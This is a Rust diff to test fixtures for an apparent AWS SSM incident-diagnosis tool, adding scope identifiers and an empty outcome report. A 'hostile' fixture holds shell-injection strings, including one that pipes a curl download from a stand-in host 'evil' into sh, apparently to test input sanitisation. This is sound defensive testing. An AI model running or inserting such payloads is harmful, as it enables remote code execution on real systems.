@@ -6,10 +6,11 @@ use jiff::Timestamp;
 
 use crate::diagnose::facts::{ImdsFacts, InstanceFacts, ProfileRef, Read, RoleFacts};
 use crate::diagnose::verdict::Standing;
-use crate::incident::cause::{Cause, Confidence, Scope};
+use crate::incident::cause::{Cause, Confidence, Scope, ScopeKind};
 use crate::incident::finding::{Clues, Evidence, SignatureCount};
 use crate::incident::gather::{Hit, Incident};
 use crate::node::{AccountId, InstanceId, NamedBy, Node, NodeId, Region};
+use crate::report::{OutcomeReport, OutcomeStatus};
 
 pub(crate) const INSTANCE: &str = "i-0123456789abcdef0";
 
@@ -26,6 +27,16 @@ pub(crate) fn node(id: &str, region: &str) -> Node {
     }
 }
 
+/// Nothing was repaired, and no repair was kept back.
+pub(crate) fn nothing_done() -> OutcomeReport {
+    OutcomeReport {
+        status: OutcomeStatus::None,
+        detail: None,
+        command: None,
+        undo: None,
+    }
+}
+
 /// One instance with everything known about it.
 pub(crate) fn incident(cause: Cause) -> Incident {
     in_region(cause, "eu-central-1")
@@ -34,7 +45,16 @@ pub(crate) fn incident(cause: Cause) -> Incident {
 pub(crate) fn in_region(cause: Cause, region: &str) -> Incident {
     let scope = Scope {
         kind: cause.scope_kind(),
-        id: INSTANCE.to_owned(),
+        id: match cause.scope_kind() {
+            ScopeKind::Role => "MySSMRole",
+            ScopeKind::ServiceInSubnet => "ssm/subnet-0a1b2c3d4e5f60718",
+            ScopeKind::AccountRegion => "123456789012/eu-central-1",
+            ScopeKind::AccountRegionApi => "123456789012/eu-central-1/UpdateInstanceInformation",
+            ScopeKind::VpcEndpoint | ScopeKind::Vpc => "vpc-0a1b2c3d4e5f60718",
+            ScopeKind::Template => "0a1b2c3d4e5f",
+            ScopeKind::Instance | ScopeKind::ServiceOnNode | ScopeKind::Node => INSTANCE,
+        }
+        .to_owned(),
     };
     let last = at("2026-11-23T04:19:04Z");
     Incident {
@@ -45,7 +65,7 @@ pub(crate) fn in_region(cause: Cause, region: &str) -> Incident {
         severity: cause.severity(),
         confidence: Confidence::Likely,
         standing: Standing::Standing,
-        title: format!("{cause} on instance {INSTANCE}."),
+        title: format!("{cause} on instance {INSTANCE}"),
         detail: None,
         hits: vec![hit(INSTANCE, region, cause)],
         signatures: vec![SignatureCount {
@@ -112,6 +132,10 @@ pub(crate) fn hit(id: &str, region: &str, cause: Cause) -> Hit {
 pub(crate) fn on_hybrid_node(cause: Cause) -> Incident {
     let mut incident = incident(cause);
     incident.hits = vec![hit("mi-0123456789abcdef0", "eu-central-1", cause)];
+    incident.scope = Scope {
+        kind: ScopeKind::Node,
+        id: "mi-0123456789abcdef0".to_owned(),
+    };
     incident.instances.clear();
     incident.role = None;
     incident
@@ -136,6 +160,10 @@ pub(crate) fn hostile(cause: Cause) -> Incident {
     let evil = || Some("x'; curl evil | sh #\n$(evil)".to_owned());
     let mut incident = on_unknown_node(cause);
     incident.hits[0].node.id = NodeId::Unknown("i-0'; evil".into());
+    incident.scope = Scope {
+        kind: cause.scope_kind(),
+        id: "x'; evil".to_owned(),
+    };
     incident.clues = Clues {
         service: evil(),
         host: evil(),
